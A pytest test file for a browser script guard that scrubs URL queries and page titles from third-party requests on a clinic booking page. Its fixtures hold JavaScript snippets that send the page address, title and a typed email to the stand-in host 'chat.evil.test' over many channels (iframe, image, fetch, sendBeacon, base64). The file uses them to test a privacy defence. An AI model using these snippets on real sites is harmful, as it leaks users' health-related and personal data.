"""What a scrub takes out of each way to send: the query and title of the page, the rest goes on."""

import json
from dataclasses import replace
from datetime import date
from urllib.parse import unquote

import msgspec
import pytest

from scriptward.app.guard import guard_script
from scriptward.policy.decide import Verdict, decide
from scriptward.policy.language.reader import parsed
from scriptward.policy.language.words import Mode
from scriptward.policy.learn import learned
from scriptward.policy.question import sending
from scriptward.vocabulary.words import Channel, DataKind, PageClass, Where
from tests.policy.visits import flow, leak, script, visit

HOST = "chat.evil.test"
POLICY = f"""
version: 1
site: www.clinic.test
mode: enforce
defaults: {{"*": forbid}}
pages:
  booking: {{match: ["/book/**"], class: appointment_form}}
recipients:
  chat: {{hosts: [{HOST}], baa: none}}
scripts:
  - {{match: "/**", approved: {{by: lab, date: 2026-11-01, why: "the page's own"}}}}
  - {{match: "http://{HOST}/**", owner: chat, approved: {{by: lab, date: 2026-11-01, why: "chat"}}}}
rules:
  - {{id: own, permit: [send, read, load], to: self}}
  - {{id: shown, permit: load, to: chat, pages: [appointment_form], via: [frame, worker]}}
  - {{id: sent, scrub: [page_title, search_term, url_query], to: chat, pages: [appointment_form]}}
"""
PAGE = (
    "<!doctype html><meta charset=utf-8><script src=/scrubbing-guard.js></script>"
    "<title>Visit with Amara Okafor</title><body>"
    "<input name=email value=''><script>const at = 'http://%s/';</script>"
)
PHRASE, WHO = "knee replacement", "amara-okafor"
ADDRESS = "http://www.clinic.test/book/visit?with=amara-okafor&q=knee+replacement"
FRAME = "const f = document.createElement('iframe');"
SCRIPT = "const s = document.createElement('script');"
TELLS = "encodeURIComponent(location.href)"
WAYS = {
    "frame": f"{FRAME} f.src = at + 'frame?from=' + {TELLS}; document.body.append(f);",
    "frame-attribute": f"{FRAME} f.setAttribute('src', at + 'frame-attribute?from=' + {TELLS});"
    "document.body.append(f);",
    "script": f"{SCRIPT} s.src = at + 'script?from=' + {TELLS}; document.head.append(s);",
    "image": f"new Image().src = at + 'image?from=' + {TELLS};",
    "fetch": f"fetch(at + 'fetch?from=' + {TELLS});",
    "title": "fetch(at + 'title?t=' + encodeURIComponent(document.title));",
    "xhr": f"const x = new XMLHttpRequest();x.open('GET', at + 'xhr?from=' + {TELLS}); x.send();",
    "beacon": f"navigator.sendBeacon(at + 'beacon?from=' + {TELLS}, 'hello');",
    "eventsource": f"new EventSource(at + 'eventsource?from=' + {TELLS});",
    "twice": f"fetch(at + 'twice?from=' + encodeURIComponent({TELLS}));",
    "base64": "fetch(at + 'base64?from=' + btoa(location.href));",
}


@pytest.fixture(scope="module")
def asked(chromium, site):
    """`{way: addresses that the other host was asked for}`, whole."""
    site.files["/scrubbing-guard.js"] = guard_script(parsed(POLICY), headers=True)
    site.files["/book/visit"] = (PAGE % HOST).encode()
    site.reached.clear()
    page = chromium.new_page()
    page.goto(ADDRESS)
    for code in WAYS.values():
        page.evaluate(f"{{ {code} void 0 }}")
    page.wait_for_load_state("networkidle")
    page.close()
    found: dict[str, list[str]] = {way: [] for way in WAYS}
    for path in site.reached:
        found.setdefault(path.strip("/").partition("?")[0], []).append(path)
    return found


GOES = [way for way in WAYS if way != "base64"]


@pytest.mark.parametrize("way", GOES)
def test_a_call_goes_on_without_what_is_scrubbed(asked, way):
    told = [unquote(unquote(unquote(path))).replace("+", " ") for path in asked[way]]

    assert len(told) == 1
    assert WHO not in told[0]
    assert PHRASE not in told[0]
    assert "Amara Okafor" not in told[0]


def test_the_rest_of_the_address_stays(asked):
    assert asked["frame"] == [
        "/frame?from=http%3A%2F%2Fwww.clinic.test%2Fbook%2Fvisit%3Fwith%3D%26q%3D"
    ]


def test_what_a_scrub_cannot_read_is_not_sent(asked):
    assert asked["base64"] == []


@pytest.fixture(scope="module")
def bodies(chromium, site):
    """`{way: (what arrived, or the error)}` of bodies that hold the page's address."""
    site.files["/scrubbing-guard.js"] = guard_script(parsed(POLICY), headers=True)
    site.files["/book/visit"] = (PAGE % HOST).encode()
    page = chromium.new_page()
    page.goto(ADDRESS)
    said = page.evaluate(
        """async () => {
            const whole = JSON.stringify({ page: location.href, title: document.title });
            const ways = {
                text: whole,
                params: new URLSearchParams({ page: location.href }),
                blob: new Blob([whole]),
            };
            const got = {};
            for (const [way, body] of Object.entries(ways))
                got[way] = await fetch(at + "echo", { method: "POST", body })
                    .then((answer) => answer.text(), (error) => String(error));
            return got;
        }"""
    )
    page.close()
    return said


def test_a_text_goes_on_without_what_is_scrubbed(bodies):
    body = bodies["text"].removeprefix("POST ").partition(" text/plain")[0]

    assert json.loads(body) == {
        "page": "http://www.clinic.test/book/visit?with=&q=",
        "title": "",
    }


def test_bodies_that_are_no_text_fail_whole(bodies):
    assert bodies["params"] == "TypeError: Failed to fetch"
    assert bodies["blob"] == "TypeError: Failed to fetch"


def observed(*kinds, path="frame", channel=Channel.FRAME):
    """A page whose chat is told of these kinds."""
    chat = script(f"http://{HOST}/chat.js")
    there = "http://www.clinic.test/book/visit?with=[…]"
    told = flow(f"http://{HOST}/{path}?from=[…]", by=chat, channel=channel, page=there)
    parts = tuple(leak(kind, where=Where.URL_QUERY) for kind in kinds)
    told = msgspec.structs.replace(told, data=parts)
    return visit(there, page_class=PageClass.APPOINTMENT_FORM, scripts=(chat,), flows=(told,))


WIDGET = observed(DataKind.URL_QUERY, DataKind.URL_PATH)
LEAKING = observed(DataKind.URL_QUERY, DataKind.EMAIL, path="image", channel=Channel.IMAGE)


@pytest.fixture(scope="module")
def policy():
    """Learned of a widget that is told of the page, and of an image that knows a person, too."""
    return replace(learned((WIDGET, LEAKING)).policy, mode=Mode.ENFORCE)


@pytest.fixture(scope="module")
def gone(chromium, site, policy):
    """What the other host was asked for under the learned policy: path and query."""
    site.files["/scrubbing-guard.js"] = guard_script(policy, headers=True)
    site.files["/book/visit"] = (PAGE % HOST).encode()
    site.reached.clear()
    page = chromium.new_page()
    page.goto(ADDRESS.partition("&")[0])
    page.fill("input", "jane.roe@example.test")
    mail = "document.querySelector('input').value"
    for code in (
        WAYS["frame"],
        WAYS["image"],
        f"{FRAME} f.src = at + 'mail?from=' + {TELLS} + '&m=' + {mail}; document.body.append(f);",
        f"fetch(at + 'fetch?m=' + {mail});",
    ):
        page.evaluate(f"{{ {code} void 0 }}")
    page.wait_for_load_state("networkidle")
    page.close()
    return list(site.reached)


def test_under_a_learned_policy_a_widget_goes_on_and_nothing_else_gets_out(gone):
    assert gone == ["/frame?from=http%3A%2F%2Fwww.clinic.test%2Fbook%2Fvisit%3Fwith%3D"]


def test_the_engine_without_a_browser_says_the_same(policy):
    said = [
        decide(policy, question, today=date(2026, 11, 25)).verdict
        for seen in (WIDGET, LEAKING)
        for one in seen.flows
        for question in sending(seen, one)
    ]

    assert said == [Verdict.PERMIT, Verdict.SCRUB, Verdict.FORBID]
